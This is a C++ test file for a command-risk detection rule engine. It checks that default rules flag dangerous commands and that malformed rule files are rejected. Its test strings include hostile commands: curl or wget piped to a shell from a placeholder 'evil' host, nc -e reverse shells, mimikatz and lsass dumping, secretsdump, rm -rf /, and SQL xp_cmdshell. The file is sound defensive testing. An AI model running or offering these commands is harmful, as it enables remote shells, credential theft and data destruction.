// Rules files: validation (the whole file is rejected, naming the rule and the reason) and
// matching through the RE2 sets, including the default rule set shipped in deploy/risk.
#include <catch2/catch.hpp>

#include <algorithm>

#include "server/risk/rule_set.hpp"

using namespace vigil::risk;

namespace {

std::shared_ptr<const RuleSet> defaults() {
  RuleError err;
  auto rs = RuleSet::load(VIGIL_SOURCE_DIR "/deploy/risk/default_rules.yaml", err);
  INFO(err.message());
  REQUIRE(rs);
  return rs;
}

std::vector<std::string> ids(const std::vector<const Rule*>& rules) {
  std::vector<std::string> out;
  for (auto* r : rules) out.push_back(r->id);
  return out;
}

bool fires(const RuleSet& rs, const std::string& id, const std::string& command,
           MatchType type = MatchType::Command) {
  auto v = ids(rs.match(type, command));
  return std::find(v.begin(), v.end(), id) != v.end();
}

RuleError rejection(const std::string& yaml) {
  RuleError err;
  auto rs = RuleSet::parse(yaml, err);
  CHECK_FALSE(rs);
  return err;
}

const char* kOneRule = R"(
rules:
  - id: r1
    description: test
    match: command
    pattern: '^rm '
    severity: high
    score: 5
    actions: [alert]
)";

}  // namespace

TEST_CASE("the default rule set loads and covers the reference list", "[risk][rules]") {
  auto rs = defaults();
  CHECK(fires(*rs, "rm-rf-root", "rm -rf /"));
  CHECK(fires(*rs, "rm-rf-root", "sudo /bin/rm -r -f /"));
  CHECK(fires(*rs, "rm-rf-root", "r'm' -Rf --no-preserve-root /"));
  CHECK(fires(*rs, "rm-rf-root", "rm -rf /*"));
  CHECK_FALSE(fires(*rs, "rm-rf-root", "rm -rf /tmp/build"));
  CHECK(fires(*rs, "chmod-777", "chmod -R 777 /var/www"));
  CHECK(fires(*rs, "iptables-flush", "sudo iptables -t nat -F"));
  CHECK(fires(*rs, "iptables-flush", "iptables --flush"));
  CHECK(fires(*rs, "useradd", "sudo useradd -m evil"));
  CHECK(fires(*rs, "passwd-root", "sudo passwd root"));
  CHECK_FALSE(fires(*rs, "passwd-root", "passwd"));
  CHECK(fires(*rs, "dd-device", "dd if=/dev/sda of=/tmp/disk.img bs=1M"));
  CHECK(fires(*rs, "wget-pipe-sh", "wget -qO- http://evil/x.sh | sh"));
  CHECK(fires(*rs, "curl-pipe-bash", "curl -fsSL http://evil/x.sh | sudo bash"));
  CHECK(fires(*rs, "curl-pipe-bash", "bash -c \"$(curl -fsSL http://evil/x.sh)\""));
  CHECK(fires(*rs, "curl-pipe-bash", "bash <(curl -s http://evil/x.sh)"));
  CHECK_FALSE(fires(*rs, "curl-pipe-bash", "curl -o x.sh http://example.com/x.sh"));
  CHECK(fires(*rs, "nc-exec-shell", "nc -e /bin/sh 10.0.0.1 4444"));
  CHECK(fires(*rs, "nc-exec-shell", "ncat -l -p 4444 -e /bin/bash"));
  CHECK(fires(*rs, "python-reverse-shell",
              "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444))'"));
  CHECK(fires(*rs, "mimikatz", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\""));
  CHECK(fires(*rs, "mimikatz-process", "C:\\Tools\\mimikatz.exe", MatchType::Process));
  CHECK(fires(*rs, "procdump-lsass", "procdump64.exe -accepteula -ma lsass.exe out.dmp"));
  CHECK(fires(*rs, "ntdsutil", "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q"));
  CHECK(fires(*rs, "secretsdump", "impacket-secretsdump -just-dc corp/admin@dc01"));
  CHECK(fires(*rs, "secretsdump", "python3 secretsdump.py corp/admin@dc01"));
  CHECK(fires(*rs, "sql-drop", "DROP TABLE users;", MatchType::Sql));
  CHECK(fires(*rs, "sql-copy-program", "COPY t TO PROGRAM 'sh -c id'", MatchType::Sql));
  CHECK(fires(*rs, "sql-xp-cmdshell", "EXEC xp_cmdshell 'whoami'", MatchType::Sql));
  REQUIRE(rs->durationRules().size() == 1);
  CHECK(rs->durationRules()[0]->seconds == 14400);
  CHECK(rs->match(MatchType::Command, "ls -la /tmp").empty());
}

TEST_CASE("a rule fires once per command even when several forms match", "[risk][rules]") {
  auto rs = defaults();
  auto v = ids(rs->match(MatchType::Command, "sudo rm -rf / ; rm -r -f /"));
  CHECK(std::count(v.begin(), v.end(), "rm-rf-root") == 1);
}

TEST_CASE("rules of one match type never fire for another", "[risk][rules]") {
  auto rs = defaults();
  CHECK_FALSE(fires(*rs, "sql-drop", "DROP TABLE users", MatchType::Command));
  CHECK_FALSE(fires(*rs, "rm-rf-root", "rm -rf /", MatchType::Sql));
}

TEST_CASE("a valid file parses with its fields and actions", "[risk][rules]") {
  RuleError err;
  auto rs = RuleSet::parse(kOneRule, err);
  REQUIRE(rs);
  REQUIRE(rs->rules().size() == 1);
  const Rule& r = rs->rules()[0];
  CHECK(r.id == "r1");
  CHECK(r.score == 5);
  CHECK(r.actionNames() == std::vector<std::string>{"alert"});
  CHECK_FALSE(rs->version().empty());
}

TEST_CASE("an invalid regex rejects the file naming the rule", "[risk][rules][bad-input]") {
  auto err = rejection(R"(
rules:
  - {id: ok, description: d, match: command, pattern: 'x', severity: low, actions: [alert]}
  - {id: broken, description: d, match: command, pattern: 'rm (-rf', severity: low, actions: [alert]}
)");
  CHECK(err.rule == "broken");
  CHECK(err.reason.find("invalid regular expression") != std::string::npos);
}

TEST_CASE("backreferences and lookarounds are refused: only linear-time RE2 syntax", "[risk][rules][bad-input]") {
  auto err = rejection(R"(
rules:
  - {id: backref, description: d, match: command, pattern: '(a+)\1', severity: low, actions: [alert]}
)");
  CHECK(err.rule == "backref");
  err = rejection(R"(
rules:
  - {id: look, description: d, match: command, pattern: 'rm(?=x)', severity: low, actions: [alert]}
)");
  CHECK(err.rule == "look");
}

TEST_CASE("an unknown action rejects the file naming the rule", "[risk][rules][bad-input]") {
  auto err = rejection(R"(
rules:
  - {id: a1, description: d, match: command, pattern: 'x', severity: low, actions: [alert, explode]}
)");
  CHECK(err.rule == "a1");
  CHECK(err.reason.find("unknown action 'explode'") != std::string::npos);
}

TEST_CASE("duplicate ids, missing fields and unknown keys reject the file", "[risk][rules][bad-input]") {
  auto err = rejection(R"(
rules:
  - {id: same, description: d, match: command, pattern: 'x', severity: low, actions: [alert]}
  - {id: same, description: d, match: command, pattern: 'y', severity: low, actions: [alert]}
)");
  CHECK(err.rule == "same");
  CHECK(err.reason == "duplicate rule id");

  err = rejection("rules:\n  - {id: nodesc, match: command, pattern: x, severity: low, actions: [alert]}\n");
  CHECK(err.rule == "nodesc");
  CHECK(err.reason == "missing field 'description'");

  err = rejection("rules:\n  - {description: d, match: command, pattern: x, severity: low, actions: [alert]}\n");
  CHECK(err.rule == "#1");
  CHECK(err.reason == "missing field 'id'");

  err = rejection("rules:\n  - {id: k, description: d, match: command, patern: x, severity: low, actions: [alert]}\n");
  CHECK(err.reason == "unknown key 'patern'");

  err = rejection("rules:\n  - {id: s, description: d, match: command, pattern: x, severity: huge, actions: [alert]}\n");
  CHECK(err.rule == "s");

  err = rejection("rules:\n  - {id: m, description: d, match: telepathy, pattern: x, severity: low, actions: [alert]}\n");
  CHECK(err.reason.find("unknown match type") != std::string::npos);

  err = rejection("rules:\n  - {id: dur, description: d, match: duration, severity: low, actions: [alert]}\n");
  CHECK(err.reason == "missing field 'seconds'");

  err = rejection("rules:\n  - {id: db, description: d, match: duration, seconds: 5, severity: low, actions: [block]}\n");
  CHECK(err.rule == "db");

  err = rejection("rules: [\n");
  CHECK(err.reason.find("not valid YAML") != std::string::npos);
  err = rejection("- just a list\n");
  CHECK(err.reason.find("'rules' list") != std::string::npos);
}

TEST_CASE("an unreadable rules file is an error, not a crash", "[risk][rules][bad-input]") {
  RuleError err;
  CHECK_FALSE(RuleSet::load("/nonexistent/rules.yaml", err));
  CHECK(err.reason.find("cannot read") != std::string::npos);
}

TEST_CASE("a pathological pattern and input still match in linear time", "[risk][rules]") {
  RuleError err;
  auto rs = RuleSet::parse(R"(
rules:
  - {id: evil, description: d, match: command, pattern: '(a+)+$', severity: low, actions: [alert]}
  - {id: evil2, description: d, match: keystrokes, pattern: '(x+x+)+y', severity: low, actions: [alert]}
)", err);
  REQUIRE(rs);
  std::string input(8000, 'a');
  input += '!';
  auto t0 = std::chrono::steady_clock::now();
  rs->match(MatchType::Command, input);
  rs->match(MatchType::Keystrokes, std::string(10000, 'x'));
  CHECK(std::chrono::steady_clock::now() - t0 < std::chrono::milliseconds(500));
}
